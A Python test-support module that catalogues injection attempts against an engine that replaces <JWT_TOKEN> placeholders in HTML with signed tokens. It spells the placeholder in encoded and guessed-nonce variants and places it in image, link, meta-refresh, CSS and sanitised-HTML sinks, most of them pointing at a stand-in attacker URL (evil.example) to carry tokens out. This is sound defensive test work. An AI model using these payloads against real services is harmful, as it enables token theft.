"""The injection catalogue: attacker text in every place a page shows user content, in every spelling.

Each sink renders a user's value the way real apps do (autoescaped text, attribute values, URLs built with
``urlencode``, JSON for a script block, sanitised HTML passed as safe…). Each spelling is one the engine
recognises, or an attacker's guess at the app's own form. Whatever the combination, the attacker's text
must arrive exactly as the app rendered it, and earn no token.
"""

from __future__ import annotations

import json
import re
from collections.abc import Callable
from dataclasses import dataclass
from urllib.parse import urlencode

import jwt
from markupsafe import Markup, escape

from tests.support.tokens import signing_secret

KEY = signing_secret("injection", 62)
RESOURCE = "top_airlines"
TENANT = "victim-tenant"
ATTACKER = "https://evil.example/c"
TOKEN = re.compile(rb"eyJ[A-Za-z0-9_\-]*\.[A-Za-z0-9_\-]*\.[A-Za-z0-9_\-]+")
#: Stands for the app's own placeholder in a page's reference rendering.
MARK = "APP-OWN-PLACEHOLDER"

#: What an attacker writes: every spelling the engine knows, and guesses at the app's nonce form.
SPELLINGS = {
    "raw bare": "<JWT_TOKEN>",
    "raw named": f"<JWT_TOKEN:{RESOURCE}>",
    "raw other scope": "<JWT_TOKEN:anything_at_all>",
    "html escaped": f"&lt;JWT_TOKEN:{RESOURCE}&gt;",
    "html numeric": "&#60;JWT_TOKEN&#62;",
    "html hex": f"&#x3C;JWT_TOKEN:{RESOURCE}&#x3E;",
    "percent": f"%3CJWT_TOKEN%3A{RESOURCE}%3E",
    "percent lower": "%3cjwt_token%3e%3CJWT_TOKEN%3a" + RESOURCE + "%3e",
    "guessed nonce": f"<JWT_TOKEN:{RESOURCE}:AAAAAAAAAAAAAAAAAAAAAA>",
    "guessed bare nonce": "<JWT_TOKEN:0123456789abcdefABCDEF>",
}


def _text(value: str) -> str:
    return f"<p>{escape(value)}</p>"


def _sanitised(value: str) -> str:
    # What a sanitiser keeps of a user's rich text: an image whose URL it does not check.
    return str(Markup(f'<div class="post"><img alt="pic" src="{value}"></div>'))


#: ``render(value) -> HTML``: how an app puts one user value into its page.
SINKS: dict[str, Callable[[str], str]] = {
    "text node": _text,
    "img src": lambda v: f'<img src="{escape(ATTACKER + "?t=" + v)}">',
    "a href": lambda v: f'<a href="{escape(ATTACKER + "?t=" + v)}">profile</a>',
    "meta refresh": lambda v: (
        f'<meta http-equiv="refresh" content="{escape("30;url=" + ATTACKER + "?t=" + v)}">'
    ),
    "css url": lambda v: f'<div style="{escape("background:url(" + ATTACKER + "?t=" + v + ")")}"></div>',
    "sanitised html": lambda v: _sanitised(ATTACKER + "?t=" + v),
    "data attribute": lambda v: f'<div data-note="{escape(v)}"></div>',
    "json in script": lambda v: f'<script type="application/json">{json.dumps({"note": v})}</script>',
    "urlencode": lambda v: f'<a href="/search?{escape(urlencode({"q": v, "next": ATTACKER}))}">again</a>',
}


def own_iframe(placeholder: str) -> str:
    return f'<iframe src="https://charts.example.com/embed?token={placeholder}"></iframe>'


def page(placeholder: str, attacker: str, sinks: tuple[str, ...] = tuple(SINKS)) -> str:
    """The page an app serves: the attacker's text in ``sinks`` around the app's own iframe."""
    shown = [SINKS[name](attacker) for name in sinks]
    half = len(shown) // 2
    return "<!doctype html>\n<main>{}\n{}\n{}\n</main>\n".format(
        "\n".join(shown[:half]) or "<h1>Charts</h1>", own_iframe(placeholder), "\n".join(shown[half:])
    )


@dataclass(frozen=True)
class Verdict:
    token: str
    claims: dict[str, object]


def check_page(body: bytes, reference: str, glue: tuple[str, str] = ("", "")) -> Verdict:
    """One token, in the app's own iframe; every other byte exactly as the app rendered it."""
    tokens = TOKEN.findall(body)
    assert len(tokens) == 1, f"exactly the app's own placeholder gets a token, found {len(tokens)}"
    token = tokens[0].decode()
    assert body.decode().replace(token, MARK) == reference, "the attacker's text is not as rendered"
    claims = jwt.decode(token, KEY, algorithms=["HS256"])
    assert (claims["sub"], claims["resource"]) == (TENANT, RESOURCE)
    assert own_iframe(glue[0] + token + glue[1]) in body.decode(), "the token sits in the app's iframe"
    return Verdict(token, claims)


def chunked(body: bytes, size: int) -> list[bytes]:
    return [body[i : i + size] for i in range(0, len(body), size)] or [b""]
